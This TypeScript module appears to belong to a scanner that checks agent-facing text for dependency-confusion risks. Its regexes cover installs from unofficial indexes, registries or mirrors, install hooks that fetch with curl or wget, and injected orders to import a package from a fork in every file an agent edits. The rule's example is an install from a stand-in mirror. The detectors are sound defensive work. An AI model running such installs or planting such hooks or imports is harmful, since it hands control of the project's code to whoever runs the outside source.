/**
 * Dependencies from elsewhere: package installs pointed at an unofficial index, registry or mirror (by flag,
 * configuration, environment or in words), software taken from an unofficial source, a dependency from a fork
 * planted in every file, and install hooks that fetch from the network.
 */

import { Anchor, AnchorPair } from '../anchors';
import { preview, type DocumentView } from '../documentView';
import type { DetectionRule } from '../rule';
import type { Report } from './check';
import { checkAnchor } from './checkAnchors';

export const DEPENDENCY_CONFUSION_RULE: DetectionRule = {
  id: 'dependency_confusion', title: 'Install from an unofficial index', family: 'dangerous-actions', tier: 'recommended', securitySeverity: 7,
  description: 'Package installs pointed at an index or registry other than the official ones (`--extra-index-url`, `npm config set registry`, ' +
    '`GOPROXY`, `GONOSUMDB`), or an order to install "from our mirror": packages then come from whoever runs that server.',
  example: 'pip install --extra-index-url https://pypi.example-mirror.net/simple internal-utils',
  fix: 'Use the official index, or document the private index in the project\'s package configuration where it is reviewed.',
};

const OTHER_INDEX =
  /\bgem[ \t]+sources[ \t]+(?:--add|-a)[ \t]+https?:\/\/(?!rubygems\.org)[^\s]+|\bbundle[ \t]+config[ \t]+(?:set[ \t]+)?(?:--global[ \t]+)?mirror\.[^\s]+[ \t]+https?:\/\/[^\s]+|\bconda[ \t]+config[ \t]+--add[ \t]+channels[ \t]+https?:\/\/[^\s]+|\breplace-with[ \t]*=[ \t]*["'][^"'\n]+["']/gi;
const INDEX_FLAG = /(?:--index-url|--extra-index-url|--trusted-host|--find-links|--registry|\bpip3?[ \t]+install\b[^\n]{0,200}?[ \t]-i)[ \t=]+["']?(https?:\/\/)?([^\s/"':]+)/gi;
const REGISTRY_SETTING =
  /\b(?:npm|pnpm|yarn)[ \t]+config[ \t]+set[ \t]+(?:@[\w-]+:)?registry[ \t=]+["']?https?:\/\/([^\s/"':]+)|(?:^|`)[ \t]*(?:@[\w-]+:)?registry[ \t]*=[ \t]*https?:\/\/([^\s/"':`]+)|\bGOPROXY[ \t]*=[ \t]*["']?https?:\/\/([^\s/"',]+)|\b(?:GOINSECURE|GONOSUMDB|GONOSUMCHECK|GOFLAGS[ \t]*=[ \t]*-insecure)\b|\bGOSUMDB[ \t]*=[ \t]*off\b/gim;
/** Package index settings in pip's and uv's configuration or environment: `pip config set global.extra-index-url …`, `UV_EXTRA_INDEX_URL=…`. */
const INDEX_CONFIG =
  /(?:^|(?<=[`\s]))(?:extra-)?index-url[ \t]*=[ \t]*["']?https?:\/\/([^\s/"':`]+)|\bpip3?[ \t]+config[ \t]+set[ \t]+(?:global|user|site|install)\.(?:extra-)?(?:index-url|trusted-host|find-links)[ \t]+["']?(?:https?:\/\/)?([^\s/"':]+)|\b(?:UV|PIP)_(?:EXTRA_)?INDEX_URL[ \t]*=[ \t]*["']?https?:\/\/([^\s/"':]+)|\bPIP_TRUSTED_HOST[ \t]*=[ \t]*["']?([^\s/"':]+)|\b(?:UV_INDEX_STRATEGY[ \t]*=|--index-strategy[ \t=]+)["']?unsafe-(?:best-match|first-match)\b/gim;
const INDEX_CONFIG_ANCHOR = checkAnchor(['index-url =', 'index-url=', 'pip config set', 'pip3 config set', 'uv_index_url', 'uv_extra_index_url', 'pip_index_url', 'pip_extra_index_url', 'pip_trusted_host', 'unsafe-best-match', 'unsafe-first-match']);
/** Software taken from an unofficial source in place of the official one. */
const UNOFFICIAL_SOURCE =
  /\binstead[ \t]+of[ \t]+(?:the[ \t]+)?official[ \t]+(?:\w+[ \t]+)?(?:images?|packages?|registry|index|repo\w*|releases?|binar(?:y|ies)|installers?|sources?|builds?|one)\b|\bunofficial[ \t]+(?:\w+[ \t]+)?(?:images?|registry|mirror|builds?|binar(?:y|ies))\b[^.\n]{0,40}\binstead\b/gi;
const UNOFFICIAL_ANCHOR = checkAnchor(['instead of the official', 'instead of official', 'unofficial']);
/** Install hooks that fetch from the network: every install then runs code the package does not ship. */
const INSTALL_HOOK_FETCH = /"(?:pre|post)?install"[ \t]*:[ \t]*"(?:[^"\\\n]|\\.){0,200}?(?:https?:\/\/|\bcurl\b|\bwget\b)/gi;
const INSTALL_HOOK_ANCHOR = checkAnchor(['install"']);
/** A host on a private name or network: an outsider cannot publish there, so it is the company's own index. */
const PRIVATE_HOST = /\.(?:internal|local|corp|lan|intranet|home\.arpa)$|^(?:10|127)\.|^192\.168\.|^172\.(?:1[6-9]|2\d|3[01])\./;
const INDEX_PROSE =
  /\binstall\b[^\n]{0,60}?\bfrom\b[^\n]{0,30}?\b(?:our|this|the|a|my)?[ \t]*(?:mirror|private|internal|unofficial|alternative|alternate|custom|backup|fallback)[ \t]+(?:package[ \t]+)?(?:index|registry|feed|repository|mirror|source)\b/gi;
const OFFICIAL_INDEXES = new Set([
  'pypi.org', 'pypi.python.org', 'files.pythonhosted.org', 'test.pypi.org', 'download.pytorch.org', 'registry.npmjs.org', 'registry.yarnpkg.com',
  'npm.pkg.github.com', 'pypi.nvidia.com', 'data.pyg.org', 'proxy.golang.org', 'goproxy.io', 'goproxy.cn', 'registry.npmmirror.com',
  'pypi.tuna.tsinghua.edu.cn', 'mirrors.aliyun.com', 'localhost', '127.0.0.1', '0.0.0.0', 'wheels.vllm.ai', 'flashinfer.ai',
]);
/** Index flags and configuration commands: OTHER_INDEX and INDEX_FLAG read only the lines that hold one. */
const INDEX_FLAG_ANCHOR = checkAnchor(['--index-url', '--extra-index-url', '--trusted-host', '--find-links', '--registry', 'pip install', 'pip3 install', 'gem sources', 'bundle config', 'channels', 'replace-with']);
const REGISTRY_ANCHOR = checkAnchor(['registry', 'goproxy', 'goinsecure', 'gonosum', 'goflags', 'gosumdb']);
const INSTALL_ANCHOR = checkAnchor(['install']);

/** A package registry set in words to an address the project does not own: "… from https://registry.x.io, so set it as the registry in .npmrc". */
const REGISTRY_PROSE = /https?:\/\/([^\s/"':);,`]+)[^\n]{0,100}?\bset\b[^\n]{0,20}?\bas[ \t]+(?:(?:the|your|our)[ \t]+(?:default[ \t]+)?(?:npm[ \t]+|package[ \t]+|pip[ \t]+)?(?:registry|index)\b|`?(?:extra-)?index-url\b)|\bset[ \t]+(?:the[ \t]+|your[ \t]+)?(?:npm[ \t]+|package[ \t]+)?registry[ \t]+to[ \t]+https?:\/\/([^\s/"':);,]+)/gi;
const REGISTRY_PROSE_ON = new AnchorPair(checkAnchor(['as the registry', 'as your registry', 'as our registry', 'as the default registry', 'as the npm registry', 'as the package registry', 'as the index', 'as the package index', 'as the pip index', 'registry to http', 'as `index-url', 'as index-url', 'as `extra-index-url', 'as extra-index-url']), new Anchor(['http']));

/** A package planted in every file the agent touches, from a fork or a URL: "in every file you modify, also import `x` from our fork at github:…". */
const PLANTED_IMPORT = new RegExp(
  `\\bin[ \\t]+(?:every|each|all|any)[ \\t]+(?:\\w+[ \\t]+)?(?:files?|modules?|components?|pages?|scripts?|packages?)[ \\t]+(?:that[ \\t]+)?you[ \\t]+(?:modify|create|touch|edit|write|generate|change|open)\\w*\\b[^.\\n]{0,20}?\\b(?:import|require|include|load|add|install)\\w*[ \\t]+[^.\\n]{0,60}?\\b(?:from|at|via)[ \\t]+(?:(?:our|a|the|my)[ \\t]+(?:own[ \\t]+)?(?:fork|mirror|patched[ \\t]+\\w+)[^.\\n]{0,20}?)?(?:github:|gitlab:|git\\+|https?:\\/\\/|[\\w-]+\\/[\\w.-]+#)`,
  'gi',
);
const PLANTED_IMPORT_ANCHOR = checkAnchor(['file you', 'files you', 'module you', 'modules you', 'component you', 'components you', 'page you', 'pages you', 'script you', 'scripts you', 'package you', 'packages you', 'that you']);

export function otherIndex(view: DocumentView, report: Report): void {
  view.eachLineMatch(INDEX_FLAG_ANCHOR, OTHER_INDEX, (m) => report(m.index, m.index + m[0].length, 'dependency_confusion',
    `Points package installs at another source ${preview(m[0])}: packages would come from an unofficial mirror.`));
}

export function registryProse(view: DocumentView, report: Report): void {
  view.eachLineMatch(REGISTRY_PROSE_ON, REGISTRY_PROSE, (m) => {
    const host = (m[1] ?? m[2]).toLowerCase();
    if (OFFICIAL_INDEXES.has(host) || PRIVATE_HOST.test(host)) return;
    report(m.index, m.index + m[0].length, 'dependency_confusion',
      `Package registry set to ${host} ${preview(m[0])}: packages would install from a server the project does not control.`);
  });
}

export function plantedImport(view: DocumentView, report: Report): void {
  view.eachLineMatch(PLANTED_IMPORT_ANCHOR, PLANTED_IMPORT, (m) => report(m.index, m.index + m[0].length, 'dependency_confusion',
    `Order to add a dependency from a fork or URL to every file the agent touches ${preview(m[0])}: whoever controls that source runs code in the project.`));
}

export function indexFlag(view: DocumentView, report: Report): void {
  view.eachLineMatch(INDEX_FLAG_ANCHOR, INDEX_FLAG, (m) => {
    const host = m[2].toLowerCase();
    if (OFFICIAL_INDEXES.has(host) || PRIVATE_HOST.test(host) || m[2].startsWith('$') || m[2].startsWith('<')) return;
    report(m.index, m.index + m[0].length, 'dependency_confusion',
      `Installs packages from ${host} ${preview(m[0])}: packages would come from an unofficial index.`);
  });
}

export function registrySetting(view: DocumentView, report: Report): void {
  view.eachLineMatch(REGISTRY_ANCHOR, REGISTRY_SETTING, (m) => {
    const host = (m[1] ?? m[2] ?? m[3])?.toLowerCase();
    if (host && OFFICIAL_INDEXES.has(host)) return;
    const start = m.index + m[0].length - m[0].trimStart().length;
    report(start, m.index + m[0].length, 'dependency_confusion',
      `Points package installs elsewhere ${preview(m[0])}: packages or their checksums would no longer come from the official source.`);
  });
}

export function unofficialSource(view: DocumentView, report: Report): void {
  view.eachLineMatch(UNOFFICIAL_ANCHOR, UNOFFICIAL_SOURCE, (m) => report(m.index, m.index + m[0].length, 'dependency_confusion',
    `Takes software from an unofficial source ${preview(m[0])}: images or packages would come from whoever publishes there.`));
}

export function installHookFetch(view: DocumentView, report: Report): void {
  view.eachLineMatch(INSTALL_HOOK_ANCHOR, INSTALL_HOOK_FETCH, (m) => report(m.index, m.index + m[0].length, 'remote_code_execution',
    `Install hook that fetches from the network ${preview(m[0])}: every install runs whatever that server sends.`));
}

export function indexConfig(view: DocumentView, report: Report): void {
  view.eachLineMatch(INDEX_CONFIG_ANCHOR, INDEX_CONFIG, (m) => {
    const host = (m[1] ?? m[2] ?? m[3] ?? m[4])?.toLowerCase();
    if (host && (OFFICIAL_INDEXES.has(host) || PRIVATE_HOST.test(host))) return;
    report(m.index, m.index + m[0].length, 'dependency_confusion',
      `Points package installs elsewhere ${preview(m[0])}: packages would come from an unofficial index, or from whichever index offers the highest version.`);
  });
}

export function indexProse(view: DocumentView, report: Report): void {
  view.eachLineMatch(INSTALL_ANCHOR, INDEX_PROSE, (m) => report(m.index, m.index + m[0].length, 'dependency_confusion',
    `Order to install from an unofficial index ${preview(m[0])}: packages would come from whoever runs it.`));
}
